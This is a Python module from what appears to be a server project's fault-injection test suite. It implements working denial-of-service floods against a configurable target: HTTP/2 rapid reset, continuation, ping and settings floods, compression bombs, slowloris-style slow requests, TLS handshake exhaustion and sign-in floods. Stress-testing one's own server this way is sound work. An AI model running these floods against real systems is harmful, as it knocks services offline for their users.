"""The attackers, a process of their own: `python -m tests.faults.floods.attacks NAME TARGET.json SECONDS`.

Each attack prepares itself, says `begun`, does one hostile thing again and again until its time is over or SIGTERM
tells it to end, and prints how often, as JSON. It is polite
in one respect only: it runs at a lower priority than the server, since a real attacker brings processors of their own.
"""

from __future__ import annotations

import asyncio
import json
import os
import resource
import signal
import socket
import ssl
import sys
import threading
import time
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

from tests.faults.floods.frames import (
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    bomb,
    call_head,
    fields,
    frame,
    message,
    opening,
)
from tests.faults.floods.lines import Line, Target

__all__ = ["ATTACKS"]

_HELD = 40  # connections of attacks that hold something on each
_PAUSE = 0.3  # seconds
_STREAMS = 2_000  # ids on one connection, before the next
_KIB = 1024

Attack = Callable[[Target, Callable[[], bool]], int]
ATTACKS: dict[str, Attack] = {}


def attack(made: Attack) -> Attack:
    """Put it into the list, under its name."""
    ATTACKS[made.__name__.replace("_", " ")] = made
    return made


def _lines(target: Target, going_on: Callable[[], bool], use: Callable[[Line], int], *, listening: bool = True) -> int:
    """One connection after another, each used until the server ends it; one at least, however long it took to begin."""
    context, done, begun = target.context(), 0, False
    while not begun or going_on():
        begun = True
        try:
            line = Line(target, context, listening=listening)
        except OSError:
            done += 1  # a connection that is refused was tried too
            time.sleep(0.02)
            continue
        try:
            if line.say(opening()):
                done += use(line)
        finally:
            line.close()
    return done


def _hold(
    target: Target, going_on: Callable[[], bool], begin: Callable[[Line], bool], more: bytes, *, count: int = _HELD
) -> int:
    """Many connections at once, each kept alive with a little now and then; those that end are opened again."""
    context, done = target.context(), 0
    held: list[Line] = []
    while going_on():
        while len(held) < count and going_on():
            try:
                line = Line(target, context)
            except OSError:
                break
            begin(line)
            held.append(line)
            done += 1
        for line in held:
            if more:
                line.say(more)
            else:
                line.hear()
        for line in [each for each in held if each.ended]:
            line.close()
            held.remove(line)
        done += len(held)
        time.sleep(_PAUSE)
    for line in held:
        line.close()
    return done


# ---- calls that are too large ----


@attack
def oversized_messages(target: Target, going_on: Callable[[], bool]) -> int:
    """Messages of 64 MiB, of which as much is sent as is taken."""

    def use(line: Line) -> int:
        done = 0
        for stream in range(1, _STREAMS, 2):
            done += 1
            head = frame(HEADERS, END_HEADERS, stream, call_head(target.method)) + frame(
                DATA, 0, stream, b"\0" + (64 * _KIB * _KIB).to_bytes(4, "big") + bytes(8 * _KIB)
            )
            if not going_on() or not line.say(head + frame(DATA, 0, stream, bytes(16 * _KIB)) * 3):
                break
        return done

    return _lines(target, going_on, use)


@attack
def compression_bombs(target: Target, going_on: Callable[[], bool]) -> int:
    """A message of 1 MiB less a little that unpacks to a thousand times as much."""
    packed = bomb(512 * _KIB * _KIB)[: 900 * _KIB]

    def use(line: Line) -> int:
        done = 0
        for stream in range(1, _STREAMS, 2):
            done += 1
            body = message(packed, packed=True)
            head = call_head(target.method, ("grpc-encoding", "gzip"))
            pieces = [body[at : at + 16 * _KIB] for at in range(0, len(body), 16 * _KIB)]
            data = b"".join(frame(DATA, END_STREAM * (each is pieces[-1]), stream, each) for each in pieces)
            if not line.say(frame(HEADERS, END_HEADERS, stream, head) + data) or not going_on():
                break
        return done

    return _lines(target, going_on, use)


@attack
def metadata_flood(target: Target, going_on: Callable[[], bool]) -> int:
    """Calls with 15 KiB of metadata, and others with 300 fields."""
    large = call_head(target.method, ("x-large", "a" * 15_000))
    many = call_head(target.method, *((f"x-{number}", "b" * 20) for number in range(300)))

    def use(line: Line) -> int:
        done = 0
        for stream in range(1, _STREAMS, 2):
            done += 1
            head = large if stream % 4 == 1 else many
            if not going_on() or not line.say(frame(HEADERS, END_HEADERS | END_STREAM, stream, head)):
                break
        return done

    return _lines(target, going_on, use)


@attack
def continuation_flood(target: Target, going_on: Callable[[], bool]) -> int:
    """Headers that never end (CVE-2024-27316 and its kin)."""
    more = frame(CONTINUATION, 0, 1, fields(("x-more", "c" * 16_000)))

    def use(line: Line) -> int:
        line.say(frame(HEADERS, 0, 1, call_head(target.method)))
        done = 0
        while going_on() and line.say(more):
            done += 1
        return done + 1

    return _lines(target, going_on, use)


# ---- frames that cost the other side more than us ----


@attack
def rapid_reset(target: Target, going_on: Callable[[], bool]) -> int:
    """Calls that are cancelled as soon as they are made (CVE-2023-44487)."""
    head = call_head(target.method)

    def use(line: Line) -> int:
        done, stream = 0, 1
        while going_on() and stream < 2**30:
            batch = b"".join(
                frame(HEADERS, END_HEADERS, each, head) + frame(RST_STREAM, 0, each, CANCEL)
                for each in range(stream, stream + 200, 2)
            )
            stream += 200
            done += 100
            if not line.say(batch):
                break
        return done

    return _lines(target, going_on, use)


def _over_and_over(target: Target, going_on: Callable[[], bool], data: bytes, count: int) -> int:
    def use(line: Line) -> int:
        done = 0
        while going_on():
            done += count
            if not line.say(data):
                break
        return done

    return _lines(target, going_on, use)


@attack
def ping_flood(target: Target, going_on: Callable[[], bool]) -> int:
    """Pings without an end (CVE-2019-9512)."""
    return _over_and_over(target, going_on, frame(PING, 0, 0, bytes(8)) * 500, 500)


@attack
def settings_flood(target: Target, going_on: Callable[[], bool]) -> int:
    """Settings that must each be acknowledged (CVE-2019-9515), and change the windows of every stream."""
    one = frame(SETTINGS, 0, 0, b"\0\4" + (65_535).to_bytes(4, "big")) + frame(
        SETTINGS, 0, 0, b"\0\4" + (2**30).to_bytes(4, "big")
    )
    return _over_and_over(target, going_on, one * 250, 500)


@attack
def empty_frames(target: Target, going_on: Callable[[], bool]) -> int:
    """Frames with nothing in them (CVE-2019-9518)."""

    def use(line: Line) -> int:
        done = 1
        line.say(frame(HEADERS, END_HEADERS, 1, call_head(target.method)))
        while going_on() and line.say(frame(DATA, 0, 1, b"") * 500):
            done += 500
        return done

    return _lines(target, going_on, use)


@attack
def garbage(target: Target, going_on: Callable[[], bool]) -> int:
    """Bytes that are no HTTP/2 at all."""
    return _over_and_over(target, going_on, os.urandom(32 * _KIB), 1)


# ---- what takes its time ----


@attack
def held_streams(target: Target, going_on: Callable[[], bool]) -> int:
    """Calls that are begun, as many as a connection takes, and never go on."""
    head = b"".join(frame(HEADERS, END_HEADERS, each, call_head(target.method)) for each in range(1, 129, 2))
    return _hold(target, going_on, lambda line: line.say(opening() + head), b"")


@attack
def slow_senders(target: Target, going_on: Callable[[], bool]) -> int:
    """Calls whose message comes a byte at a time."""
    begun = frame(HEADERS, END_HEADERS, 1, call_head(target.method)) + frame(
        DATA, 0, 1, b"\0" + (4000).to_bytes(4, "big")
    )
    return _hold(target, going_on, lambda line: line.say(opening() + begun), frame(DATA, 0, 1, b"s"))


@attack
def slow_readers(target: Target, going_on: Callable[[], bool]) -> int:
    """A window of nothing: whatever is answered has to wait."""
    settings = b"\0\4" + (0).to_bytes(4, "big")
    begun = b"".join(
        frame(HEADERS, END_HEADERS, each, call_head("/cordee.v1.Roster/ListEntries"))
        + frame(DATA, END_STREAM, each, message(b""))
        for each in range(1, 65, 2)
    )
    return _hold(target, going_on, lambda line: line.say(opening(settings) + begun), b"")


# ---- connections ----


@attack
def silent_connections(target: Target, going_on: Callable[[], bool]) -> int:
    """Thousands of connections that say nothing, each opened again when it is closed."""
    return _many_open(target, going_on, b"")


@attack
def handshakes_begun(target: Target, going_on: Callable[[], bool]) -> int:
    """The same, with the first message of a TLS handshake and nothing after it."""
    return _many_open(target, going_on, _client_hello(target))


def _many_open(target: Target, going_on: Callable[[], bool], first: bytes) -> int:
    held: list[socket.socket] = []
    done = 0
    try:
        while going_on():
            for _ in range(100):
                if len(held) >= target.many:
                    break
                with suppress(OSError):
                    line = target.plain(blocking=False)
                    held.append(line)
                    done += 1
            time.sleep(0.03)
            kept = []
            for line in held:
                if _has_ended(line, first):
                    line.close()
                else:
                    kept.append(line)
            held = kept
    finally:
        for line in held:
            line.close()
    return done


_said: set[int] = set()


def _has_ended(line: socket.socket, first: bytes) -> bool:
    try:
        if first and line.fileno() not in _said:
            line.send(first)
            _said.add(line.fileno())
        ended = not line.recv(65_536)
    except BlockingIOError:
        return False
    except OSError as error:
        ended = error.errno not in (11, 107, 115)  # not there yet
    if ended:
        _said.discard(line.fileno())
    return ended


@attack
def handshakes_dropped(target: Target, going_on: Callable[[], bool]) -> int:
    """TLS handshakes begun, answered, and dropped: each costs the server a signature and a key exchange."""
    hello, done = _client_hello(target), 0
    while going_on():
        with suppress(OSError):
            line = target.plain()
            line.sendall(hello)
            line.recv(100)
            line.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")  # a reset
            line.close()
        done += 1
    return done


@attack
def connections_dropped(target: Target, going_on: Callable[[], bool]) -> int:
    """Connections opened and closed at once."""
    done = 0
    while going_on():
        with suppress(OSError):
            target.plain().close()
        done += 1
    return done


@attack
def idle_connections(target: Target, going_on: Callable[[], bool]) -> int:
    """Two thousand connections that shook hands, said hello, and then nothing; those that are closed come again."""
    context, done = target.context(), 0
    held: list[Line] = []
    lock = threading.Lock()

    def connect() -> None:
        nonlocal done
        while going_on():
            if len(held) >= target.many:
                time.sleep(0.05)
                continue
            try:
                line = Line(target, context)
                line.say(opening())
            except OSError:
                time.sleep(0.05)
                continue
            finally:
                with lock:
                    done += 1
            with lock:
                held.append(line)

    threads = [threading.Thread(target=connect) for _ in range(4)]
    for each in threads:
        each.start()
    while going_on():
        time.sleep(0.3)
        for line in list(held):
            line.hear()
        with lock:
            ended = [line for line in held if line.ended]
            held[:] = [line for line in held if not line.ended]
        for line in ended:
            line.close()
    for each in threads:
        each.join()
    for line in held:
        line.close()
    return done


def _client_hello(target: Target) -> bytes:
    coming, going = ssl.MemoryBIO(), ssl.MemoryBIO()
    made = (target.context() or ssl.create_default_context()).wrap_bio(coming, going, server_hostname=target.name)
    with suppress(ssl.SSLWantReadError):
        made.do_handshake()
    return going.read()


# ---- pages (HTTP/1.1) ----


def _request(line: str, *headers: str, body: bytes = b"") -> bytes:
    """A request as a page of the node's own would send it."""
    own = ("Host: localhost", "Sec-Fetch-Site: same-origin", f"Content-Length: {len(body)}", *headers)
    return "\r\n".join((line, *own, "", "")).encode() + body


def _asking(target: Target, going_on: Callable[[], bool], request: bytes) -> int:
    """The same request again and again, over several connections at once; each answer is waited for a moment."""
    context, done = target.context(), 0

    def ask() -> None:
        nonlocal done
        while going_on():
            try:
                line = Line(target, context)
            except OSError:
                time.sleep(0.05)
                continue
            while going_on() and line.say(request):
                done += 1
                line.closed_within(0.05)
            line.close()

    threads = [threading.Thread(target=ask) for _ in range(16)]
    for each in threads:
        each.start()
    for each in threads:
        each.join()
    return done


@attack
def sign_ins(target: Target, going_on: Callable[[], bool]) -> int:
    """Names and passwords of nobody: each costs the node 19 MiB and a tenth of a second. 300 wait at a time."""
    form = ("Content-Type: application/x-www-form-urlencoded",)
    bodies = (f"name=nobody-{number}&password=wrong-but-long-enough".encode() for number in range(10**9))
    context, done = target.context(), 0
    lines: list[Line] = []
    while going_on():
        while len(lines) < 300 and going_on():
            try:
                line = Line(target, context)
            except OSError:
                break
            if line.say(_request("POST /sign-in HTTP/1.1", *form, body=next(bodies))):
                done += 1
            lines.append(line)
        for line in list(lines):
            if line.hear():  # an answer: the next
                done += line.say(_request("POST /sign-in HTTP/1.1", *form, body=next(bodies)))
            if line.ended:
                line.close()
                lines.remove(line)
        time.sleep(0.02)
    return done


@attack
def slow_heads(target: Target, going_on: Callable[[], bool]) -> int:
    """Requests that come a byte at a time (slowloris), on as many connections as there is time to open."""
    return _hold(
        target, going_on, lambda line: line.say(_request("GET / HTTP/1.1")[:-2] + b"X-Slow: "), b"s", count=500
    )


@attack
def slow_forms(target: Target, going_on: Callable[[], bool]) -> int:
    """Forms, and files in parts, whose bodies come a byte at a time."""
    form = _request("POST /sign-in HTTP/1.1", "Content-Type: application/x-www-form-urlencoded", body=bytes(5000))
    parts = _request("POST /sign-in HTTP/1.1", "Content-Type: multipart/form-data; boundary=b", body=bytes(5000))
    heads = [each[:-5000] + b"name=" for each in (form, parts)]
    turn = iter(range(10**9))
    return _hold(target, going_on, lambda line: line.say(heads[next(turn) % 2]), b"s", count=500)


@attack
def slow_readers_of_pages(target: Target, going_on: Callable[[], bool]) -> int:
    """Pages asked for by the dozen, and never read."""
    asked = _request("GET /sign-in HTTP/1.1") * 50
    context, done = target.context(), 0
    lines: list[Line] = []
    while going_on():
        if len(lines) < 200:
            with suppress(OSError):
                lines.append(Line(target, context, listening=False))
                done += 50 * lines[-1].say(asked)
        else:
            time.sleep(0.2)
    for line in lines:
        line.close()
    return done


@attack
def huge_heads(target: Target, going_on: Callable[[], bool]) -> int:
    """Heads of many megabytes, as far as they are taken."""
    context, done = target.context(), 0
    while going_on():
        with suppress(OSError):
            line = Line(target, context)
            line.say(_request("GET / HTTP/1.1")[:-2])
            while going_on() and line.say(b"X-More: " + b"m" * 16_000 + b"\r\n"):
                done += 1
            line.close()
        done += 1
    return done


@attack
def many_cookies(target: Target, going_on: Callable[[], bool]) -> int:
    """Sixty kilobytes of cookies with each request."""
    return _asking(
        target, going_on, _request("GET / HTTP/1.1", "Cookie: " + "; ".join(f"c{n}={n}" for n in range(4500)))
    )


@attack
def huge_forms(target: Target, going_on: Callable[[], bool]) -> int:
    """Forms as large as the door lets in, of fields without end."""
    body = b"a=1&" * 900_000
    form = "Content-Type: application/x-www-form-urlencoded"
    return _asking(target, going_on, _request("POST /sign-in HTTP/1.1", form, body=body))


@attack
def many_parts(target: Target, going_on: Callable[[], bool]) -> int:
    """Forms of tens of thousands of parts."""
    body = b'--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n' * 40_000 + b"--b--\r\n"
    form = "Content-Type: multipart/form-data; boundary=b"
    return _asking(target, going_on, _request("POST /sign-in HTTP/1.1", form, body=body))


# ---- calls, as a member's own node would make them ----


@attack
def calls_without_end(target: Target, going_on: Callable[[], bool]) -> int:
    """Real calls over the hybrid key exchange, as many as the line bears: answered, refused, and streams left open."""
    from tests.faults.floods.greedy import calls

    return asyncio.run(calls(target, going_on))


def main(name: str, target: str, seconds: str) -> None:
    """Attack, and say how often."""
    os.nice(5)
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
    over = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: over.set())
    until, lock = 0.0, threading.Lock()

    def going_on() -> bool:
        nonlocal until
        with lock:
            if not until:  # asked for the first time once all is prepared: to pack a bomb takes longer than a flood
                until = time.monotonic() + float(seconds)
                sys.stdout.write("begun\n")
                sys.stdout.flush()
        return time.monotonic() < until and not over.is_set()

    done = ATTACKS[name](Target.load(Path(target)), going_on)
    sys.stdout.write(json.dumps({"done": done, "lines": Line.opened, "heard": Line.heard}) + "\n")


if __name__ == "__main__":
    main(*sys.argv[1:])
